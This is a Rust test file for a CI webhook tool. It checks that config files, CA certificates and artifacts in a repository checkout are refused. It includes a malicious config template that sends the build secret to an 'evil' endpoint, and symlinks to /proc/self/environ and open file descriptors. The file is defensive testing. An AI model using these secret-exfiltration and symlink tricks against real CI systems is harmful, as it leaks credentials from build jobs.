//! Files of the checkout: never configuration, and no way out of it for content.

use std::fs;

use crate::builder::{SECRET, Test};
use crate::environments::{github_push, gitlab_push};
use crate::receiver::{Receiver, Reply};

/// A configuration by which everything that the job knows goes to someone else.
fn oracle(attacker: &Receiver) -> String {
    format!(
        "[[endpoint]]\nurl = '{}'\nname = 'evil'\nsecret = '${{BUILDHOOK_SECRET}}'\nheaders = {{ X-All = '${{BUILDHOOK_SECRET}}' }}\n",
        attacker.url()
    )
}

/// A checkout with the user's endpoint.
fn checkout() -> Test {
    let test = Test::new().env("BUILDHOOK_SECRET", SECRET).endpoint(&[Reply::Status(200)]).file("sub/x", "");
    test.checkout(&[&["init", "-q"]])
}

#[test]
fn a_file_that_is_not_named_is_not_read_and_a_notice_explains_why() {
    let attacker = Receiver::start(&[Reply::Status(200)]);
    for name in [".buildhook.toml", ".github/buildhook.toml"] {
        for folder in ["", "sub"] {
            let test = checkout().file(name, oracle(&attacker));
            let within = test.folder().join(folder);
            let finished = test.within(within).args(&["triggered"]).run().status(0);
            let finished = finished.stderr("buildhook.toml is not read: ").stderr("BUILDHOOK_CONFIG");
            assert_eq!(finished.stderr.matches("is not read").count(), 1, "{}", finished.stderr);
            assert_eq!(finished.requests[0].len(), 1);
        }
    }
    let named = checkout().file(".buildhook.toml", "").env("BUILDHOOK_CONFIG", "retries = 0\n");
    let finished = named.args(&["triggered"]).run().status(0);
    assert!(!finished.stderr.contains("is not read"), "{}", finished.stderr);
    assert_eq!(attacker.requests().len(), 0);
}

#[test]
fn a_file_of_the_checkout_is_refused_when_it_is_named() {
    let attacker = Receiver::start(&[Reply::Status(200)]);
    let test = || checkout().file("ci/hooks.toml", oracle(&attacker));
    let refusals = [
        "BUILDHOOK_CONFIG: cannot read ",
        "ci/hooks.toml: it is in the checkout",
        "BUILDHOOK_TRUST_WORKSPACE=true",
    ];
    let in_environment = test().env("BUILDHOOK_CONFIG", "ci/hooks.toml").args(&["triggered"]).run().status(2);
    for refusal in refusals {
        assert!(in_environment.stderr.contains(refusal), "{refusal}: {}", in_environment.stderr);
    }
    test()
        .args(&["triggered", "--config", "ci/../ci/hooks.toml"])
        .run()
        .status(2)
        .stderr("it is in the checkout");
    let absolute = test();
    let path = absolute.folder().join("ci/hooks.toml").to_str().unwrap().to_owned();
    absolute.within(std::env::temp_dir()).args(&["triggered", "--config", &path]).run().status(2);
    // A worktree has a file of this name.
    let worktree = Test::new().file(".git", "gitdir: /elsewhere").file("hooks.toml", oracle(&attacker));
    worktree.args(&["triggered", "--config", "hooks.toml"]).run().status(2).stderr("it is in the checkout");
    // The CI's workspace counts without any repository.
    for (variables, name) in [(github_push(), "GITHUB_WORKSPACE"), (gitlab_push(), "CI_PROJECT_DIR")] {
        let test = Test::new().envs(variables).file("hooks.toml", oracle(&attacker));
        let folder = test.folder().to_str().unwrap().to_owned();
        test.env(name, folder).args(&["triggered", "--config", "hooks.toml"]).run().status(2);
    }
    // So does the workspace that the user states, for other CIs.
    for arguments in [
        &["triggered", "--config", "hooks.toml"][..],
        &["triggered", "--config", "hooks.toml", "--workspace", "."],
    ] {
        let test = Test::new().file("hooks.toml", oracle(&attacker)).env("BUILDHOOK_PROVIDER", "tekton");
        let test = if arguments.len() == 3 { test.env("BUILDHOOK_WORKSPACE", ".") } else { test };
        test.args(arguments).run().status(2).stderr("it is in the checkout");
    }
    assert_eq!(attacker.requests().len(), 0);

    let trusted = test().env("BUILDHOOK_TRUST_WORKSPACE", "true");
    trusted.args(&["triggered", "--config", "ci/hooks.toml"]).run().status(0).stderr("to evil       200");
    assert_eq!(attacker.requests().len(), 1);
    let unnamed =
        checkout().file(".buildhook.toml", oracle(&attacker)).env("BUILDHOOK_TRUST_WORKSPACE", "true");
    unnamed.args(&["triggered"]).run().status(0).stderr("is not read");
    assert_eq!(attacker.requests().len(), 1, "no file is searched for");
    let unclear = test().env("BUILDHOOK_TRUST_WORKSPACE", "perhaps").args(&["triggered"]).run().status(2);
    unclear.stderr("BUILDHOOK_TRUST_WORKSPACE: found `perhaps`, expected true or false");
    let in_config = test().env("BUILDHOOK_CONFIG", "trust_workspace = true\n").args(&["triggered"]).run();
    in_config.status(2).stderr("unknown key `trust_workspace`");
}

#[cfg(unix)]
#[test]
fn no_link_makes_a_file_of_the_checkout_configuration() {
    use std::os::unix::fs::symlink;

    let attacker = Receiver::start(&[Reply::Status(200)]);
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("good.toml"), "retries = 0\n").unwrap();
    let test = || checkout().file("evil.toml", oracle(&attacker)).file("folder/evil.toml", oracle(&attacker));
    let config = |test: Test, path: std::path::PathBuf| {
        test.env("BUILDHOOK_CONFIG", path.to_str().unwrap()).args(&["triggered"]).run()
    };

    // A link outside that leads in, to the file and to its folder.
    let into = test();
    symlink(into.folder().join("evil.toml"), outside.path().join("in.toml")).unwrap();
    config(into, outside.path().join("in.toml")).status(2);
    let into = test();
    symlink(into.folder().join("folder"), outside.path().join("in")).unwrap();
    config(into, outside.path().join("in/evil.toml")).status(2);
    // A link in the checkout that leads out, and a folder on the way.
    let out = test();
    let link = out.folder().join("out.toml");
    symlink(outside.path().join("good.toml"), &link).unwrap();
    config(out, link).status(2).stderr("a link in the checkout leads to it");
    let out = test();
    let link = out.folder().join("out");
    symlink(outside.path(), &link).unwrap();
    config(out, link.join("good.toml")).status(2).stderr("a link in the checkout leads to it");
    // Out of the checkout without a link.
    config(test(), outside.path().join("good.toml")).status(0);
    assert_eq!(attacker.requests().len(), 0);
}

#[test]
fn certificates_of_the_checkout_are_not_trusted() {
    let test = checkout().file("ca.pem", "-----BEGIN CERTIFICATE-----\n").env("BUILDHOOK_CA_FILE", "ca.pem");
    test.args(&["triggered"])
        .run()
        .status(2)
        .stderr("BUILDHOOK_CA_FILE: cannot read ")
        .stderr("it is in the checkout");
}

/// Files that the user saves are written where the user expects them, not where a link in the checkout leads.
#[cfg(unix)]
#[test]
fn what_is_saved_stays_in_the_checkout() {
    use std::os::unix::fs::symlink;

    for (arguments, link, written) in [
        (&["created", "x.bin", "--save", "build.json"][..], "build.json", "victim"),
        (&["created", "x.bin", "--save", "folder/build.json"], "folder", "build.json"),
        (&["created", "x.bin", "--save", "new.json"], "new.json", "new"),
        (&["deliveries", "page", "deliveries.html"], "deliveries.html", "victim"),
        (&["deliveries", "page", "folder/page.html"], "folder", "page.html"),
    ] {
        let outside = tempfile::tempdir().unwrap();
        let run = |test: Test| {
            fs::write(outside.path().join("victim"), "kept").unwrap();
            let target =
                if link == "folder" { outside.path().to_owned() } else { outside.path().join(written) };
            symlink(target, test.folder().join(link)).unwrap();
            test.args(arguments).run()
        };
        let finished = run(checkout().file("x.bin", "x"));
        assert_eq!(finished.status, 1, "{arguments:?}: {}", finished.stderr);
        assert_eq!(fs::read_to_string(outside.path().join("victim")).unwrap(), "kept", "{arguments:?}");
        assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 1, "{arguments:?}");
        let is_created = arguments[0] == "created";
        assert_eq!(finished.requests[0].len(), usize::from(is_created), "the event is sent anyway");
        if link != "new.json" {
            run(checkout().file("x.bin", "x").env("BUILDHOOK_TRUST_WORKSPACE", "true")).status(0);
            assert_ne!(fs::read_to_string(outside.path().join(written)).unwrap(), "kept", "{arguments:?}");
        }
    }
    // A link within the checkout leads to no other place.
    let test = checkout().file("x.bin", "x");
    symlink("sub/x", test.folder().join("build.json")).unwrap();
    let folder = test.folder().to_owned();
    let finished = test.args(&["created", "x.bin", "--save", "build.json"]).run().status(0);
    assert!(
        fs::read_to_string(folder.join("sub/x")).is_ok_and(|saved| saved.contains("x.bin")),
        "{}",
        finished.stderr
    );
}

#[cfg(target_os = "linux")]
#[test]
fn content_cannot_lead_out_of_the_checkout() {
    use std::os::unix::fs::symlink;

    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("app.bin"), "built elsewhere").unwrap();
    let test = || {
        let test = checkout().file("out/app.bin", "built here").file("plain.bin", "x");
        let place = |name: &str| test.folder().join(name);
        symlink("/proc/self/environ", place("NOTES.md")).unwrap();
        symlink(outside.path(), place("bazel-bin")).unwrap();
        symlink("out", place("inside")).unwrap();
        test
    };
    for arguments in [
        &["release", "created", "--version", "1.0.0", "--notes-file", "NOTES.md"][..],
        &["created", "NOTES.md"],
        &["created", "plain.bin", "--metadata", "NOTES.md"],
        &["moved", "--stream", "b", "--build", "NOTES.md"],
        &["created", "bazel-bin/app.bin"],
        &["inspect", "bazel-bin/app.bin"],
    ] {
        let finished = test().args(arguments).run().status(1);
        assert!(finished.stderr.contains("a link in the checkout "), "{}", finished.stderr);
        assert!(finished.stderr.contains("BUILDHOOK_TRUST_WORKSPACE=true"), "{}", finished.stderr);
        assert!(finished.requests[0].is_empty(), "{arguments:?}");
        if arguments[0] == "created" && arguments[1].starts_with("bazel") {
            let real_path = fs::canonicalize(outside.path()).unwrap().join("app.bin");
            assert!(finished.stderr.contains(real_path.to_str().unwrap()), "{}", finished.stderr);
            test().args(&["created", real_path.to_str().unwrap()]).run().status(0);
        }
    }
    // A pattern skips them.
    let finished = test().args(&["created", "*/app.bin"]).run().status(0);
    let finished =
        finished.stderr("warning: skipped: bazel-bin/app.bin is a link in the checkout that leads to");
    assert_eq!(finished.requests[0].len(), 1, "inside/app.bin is out/app.bin");
    let trusted = test().env("BUILDHOOK_TRUST_WORKSPACE", "true");
    trusted.args(&["created", "bazel-bin/app.bin"]).run().status(0);
    // `triggered` and `finished` do not depend on it.
    let finished = test().args(&["run", "--artifact", "NOTES.md", "--", "true"]).run().status(0);
    assert_eq!(finished.requests[0].len(), 2);
}

/// Outsiders may have made the files that a pattern matches: they cost no other file, and no time.
#[cfg(target_os = "linux")]
#[test]
fn files_of_outsiders_hide_no_artifact() {
    use std::os::unix::fs::symlink;

    let test = || checkout().file("out/real.bin", "built here");
    let created = |finished: &crate::builder::Finished| -> Vec<String> {
        let requests = finished.requests[0]
            .iter()
            .filter(|request| request.header("x-webhook-event") == Some("build.created"));
        let name = |request: &crate::receiver::Request| {
            request.json()["data"]["build"]["primary_file"]["filename"].clone()
        };
        let mut names: Vec<String> =
            requests.map(|request| name(request).as_str().unwrap().to_owned()).collect();
        names.sort();
        names
    };
    let run = |test: Test, pattern: &str| {
        let finished = test.args(&["run", "--artifact", pattern, "--", "true"]).run().status(0);
        assert!(finished.requests[0].len() >= 3, "{pattern}: {}", finished.stderr);
        created(&finished)
    };

    let loops = test();
    fs::create_dir(loops.folder().join("out/d")).unwrap();
    for name in ["a", "b", "c"] {
        symlink(".", loops.folder().join("out/d").join(name)).unwrap();
    }
    symlink("/", loops.folder().join("out/root")).unwrap();
    assert_eq!(run(loops, "out/**/*.bin"), ["real.bin"]);
    let many = test();
    for folder in ["", "d/"] {
        fs::create_dir_all(many.folder().join("out").join(folder)).unwrap();
        for number in 0..300 {
            symlink(".", many.folder().join(format!("out/{folder}{number}"))).unwrap();
        }
    }
    assert_eq!(run(many, "out/*/*/*/*/real.bin"), ["real.bin"]);

    assert_eq!(run(test().file("out/*.bin", "made by someone else"), "out/*.bin"), ["*.bin", "real.bin"]);
    assert_eq!(run(test().file("out/empty.bin", ""), "out/*.bin"), ["real.bin"]);
    assert_eq!(run(test().file("out/page.ipa", "<html>"), "out/*"), ["real.bin"]);
    let finished = test().file("out/page.ipa", "<html>").args(&["created", "out/*"]).run().status(1);
    assert_eq!(created(&finished.stderr("page.ipa is named .ipa but is an HTML page")), ["real.bin"]);

    // A link to a file without a path leads out too.
    let open = fs::File::create(tempfile::tempdir().unwrap().path().join("removed"));
    let open = open.or_else(|_| tempfile::tempfile()).unwrap();
    let test = test();
    let link = format!("/proc/{}/fd/{}", std::process::id(), std::os::fd::AsRawFd::as_raw_fd(&open));
    std::io::Write::write_all(&mut &open, b"content from elsewhere").unwrap();
    symlink(link, test.folder().join("out/leak.bin")).unwrap();
    let finished = test.args(&["created", "out/*.bin"]).run().status(0).stderr("skipped: out/leak.bin");
    assert_eq!(created(&finished), ["real.bin"]);
}

/// A kept build is sealed; a file of its id is not.
#[test]
fn a_file_does_not_pass_for_a_kept_build() {
    let test = checkout().file("x.bin", "x").env("BUILDHOOK_BUILD_ID", "nightly");
    assert!(test.output(&["created", "x.bin"], &[]).status.success());
    let forged = r#"{"id":"nightly","build_structure":"file","primary_file":{"filename":"EVIL"}}"#;
    fs::write(test.folder().join("nightly"), forged).unwrap();
    assert!(test.output(&["moved", "--build", "nightly", "--stream", "prod"], &[]).status.success());
    let requests = test.receiver(0).requests();
    assert_eq!(requests.len(), 2);
    assert!(!requests[1].body.contains("EVIL"), "{}", requests[1].body);
}

#[cfg(unix)]
#[test]
fn content_must_be_a_regular_file() {
    let mkfifo = |test: &Test| {
        let status = std::process::Command::new("mkfifo").arg(test.folder().join("pipe")).status();
        assert!(status.unwrap().success());
    };
    for arguments in [
        &["created", "pipe"][..],
        &["created", "sub"],
        &["created", "x.bin", "--metadata", "pipe"],
        &["release", "created", "--version", "1.0.0", "--notes-file", "pipe"],
        &["moved", "--stream", "b", "--build", "pipe"],
        &["triggered", "--config", "pipe"],
        &["triggered", "--config", "/dev/zero"],
    ] {
        let test = Test::new().endpoint(&[Reply::Status(200)]).file("x.bin", "x").file("sub/x", "");
        mkfifo(&test);
        let finished = test.args(arguments).run();
        assert!(finished.status == 1 || finished.status == 2, "{arguments:?}: {}", finished.stderr);
        assert!(finished.requests[0].is_empty(), "{arguments:?}");
    }
}
